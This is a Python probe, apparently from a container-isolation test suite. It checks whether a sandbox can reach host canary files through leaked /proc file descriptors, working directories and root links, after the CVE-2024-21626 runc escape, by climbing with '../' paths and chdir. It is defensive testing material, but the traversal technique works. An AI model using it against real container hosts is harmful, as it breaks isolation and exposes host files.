"""A folder of the host that a runtime left open or stood in, as in CVE-2024-21626: by descriptor, working folder, root."""

import os

from probe import attempt, brief

CLIMB = "../../../../../../../../.."


def run(meta, raw):
    targets = brief(raw)
    canaries = [path for path in targets["canaryFiles"] if not path.startswith("/tmp/")]
    pids = ["self", *(name for name in os.listdir("/proc") if name.isdigit())]
    starts = ["/proc/%s/%s" % (pid, name) for pid in pids for name in ("cwd", "root")]
    starts += ["/proc/self/fd/%d" % number for number in range(256)]
    starts += ["/proc/1/fd/%d" % number for number in range(64)]
    starts += ["/proc/self/task/%d/cwd" % os.getpid(), "/dev/fd/7", "/proc/self/fd/7", "."]
    yield attempt("outside", lambda: os.getcwd().startswith("(unreachable)"))
    yield attempt("climb", lambda: [found for start in starts for found in through(start, canaries)])
    yield attempt("enter", lambda: [start for start in starts if enters(start, canaries)])
    yield attempt("no-parent", lambda: os.stat("/").st_ino != os.stat("/..").st_ino)


def through(start, canaries):
    return [start for canary in canaries for path in ("", CLIMB) if exists(os.path.join(start, path, canary.lstrip("/")))]


def exists(path):
    try:
        os.close(os.open(path, os.O_RDONLY))
        return True
    except OSError:
        return False


def enters(start, canaries):
    before = os.open("/", os.O_PATH)
    try:
        os.chdir(start)
        return any(exists(os.path.join(CLIMB, canary.lstrip("/"))) for canary in canaries)
    except OSError:
        return False
    finally:
        os.fchdir(before)
        os.close(before)
